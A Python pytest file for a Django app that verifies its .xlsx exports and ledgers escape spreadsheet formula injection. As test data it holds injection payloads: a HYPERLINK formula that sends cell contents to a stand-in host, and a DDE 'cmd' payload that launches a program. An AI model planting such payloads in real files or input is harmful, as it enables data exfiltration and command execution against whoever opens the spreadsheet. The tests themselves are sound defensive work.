"""No text a user typed comes out of an .xlsx file as a formula: not from the exchange export, not from any ledger."""

import io
from datetime import date

import pytest
from django.apps import apps
from django.db import models, transaction
from openpyxl import load_workbook

from zhibu.demo.build import COMMITTEE_NAME, build_demo
from zhibu.exchange.sheets import SHEETS
from zhibu.exchange.workbook import export_workbook
from zhibu.lib.ledgerbook import LedgerColumn, LedgerSheet, ledger_workbook, table_workbook
from zhibu.orgs import access
from zhibu.orgs.models import Organisation, OrgKind
from zhibu.records.ledger_registry import LEDGERS

TODAY = date(2026, 11, 25)
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_keeps_a_formula_like_text_as_typed_text(payload):
    ledger = ledger_workbook([LedgerSheet("台账", payload, [LedgerColumn("主题", 20), LedgerColumn("数", 5, "number")],
                                          [[payload, 1]], subheading=payload, totals=[payload, 1], notes=[payload])])
    table = table_workbook([("表", ["主题", payload], [{"主题": payload, payload: payload}])])
    for content in (ledger, table):
        assert formulas(content) == []
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == payload]
        assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


# Configuration whose texts the code matches on (rule kinds, type groups, month keys), not free text.
STRUCTURAL = {"Rule", "ActivityType", "SignInWindow"}


def _is_free_text(field) -> bool:
    """Text a user types: not a choice, not a key, not treebeard's path, not a history row's copy."""
    model = field.model
    return (isinstance(field, (models.CharField, models.TextField)) and not field.choices and not field.unique
            and field.name not in {"path", "key", "month", "content_type", "history_change_reason"}
            and model.__name__ not in STRUCTURAL and not model.__name__.startswith("Historical"))


@pytest.fixture(scope="module")
def poisoned_demo(django_db_setup, django_db_blocker):
    """The demo with every free-text field of every row set to a formula payload."""
    with django_db_blocker.unblock(), transaction.atomic():
        build_demo(today=TODAY)
        written = 0
        for model in apps.get_models():
            if not model.__module__.startswith("zhibu."):
                continue
            fields = [f for f in model._meta.concrete_fields if _is_free_text(f)]
            if not fields:
                continue
            for index, pk in enumerate(model.objects.values_list("pk", flat=True).iterator()):
                values = {}
                for offset, field in enumerate(fields):
                    suffix = f"#{pk}"  # unique where names must be
                    room = (field.max_length or 1000) - len(suffix)
                    values[field.name] = PAYLOADS[(index + offset) % len(PAYLOADS)][:room] + suffix
                model.objects.filter(pk=pk).update(**values)
                written += 1
        assert written > 1000
        yield Organisation.objects.get(name=COMMITTEE_NAME)
        transaction.set_rollback(True)


def test_the_exchange_export_of_every_sheet_holds_no_formula(poisoned_demo, db):
    content = export_workbook(access.SYSTEM, Organisation.objects.subtree_of(poisoned_demo))
    assert load_workbook(io.BytesIO(content)).sheetnames == [sheet.name for sheet in SHEETS]
    assert formulas(content) == []
    assert all(any(text.startswith(payload) for text in texts(content)) for payload in PAYLOADS)


@pytest.mark.parametrize("identifier", [key for key, ledger in LEDGERS.items() if ledger.extension == ".xlsx"])
def test_every_xlsx_ledger_holds_no_formula(poisoned_demo, db, identifier):
    # Every branch, since some ledgers apply only where a vote has finished (the demo finishes one branch's).
    branches = list(Organisation.objects.subtree_of(poisoned_demo).filter(kind=OrgKind.BRANCH).order_by("path"))
    seen = set()
    for org in (*branches, poisoned_demo):
        for year in (TODAY.year - 1, TODAY.year):
            try:
                _name, _mimetype, content = LEDGERS[identifier].produce(access.SYSTEM, org, year)
            except ValueError:  # a ledger that does not apply to this organisation or year says so
                continue
            assert formulas(content) == [], (org.name, year)
            seen |= texts(content)
    assert any(text.startswith(tuple(PAYLOADS)) for text in seen), "the typed texts reach the ledger"
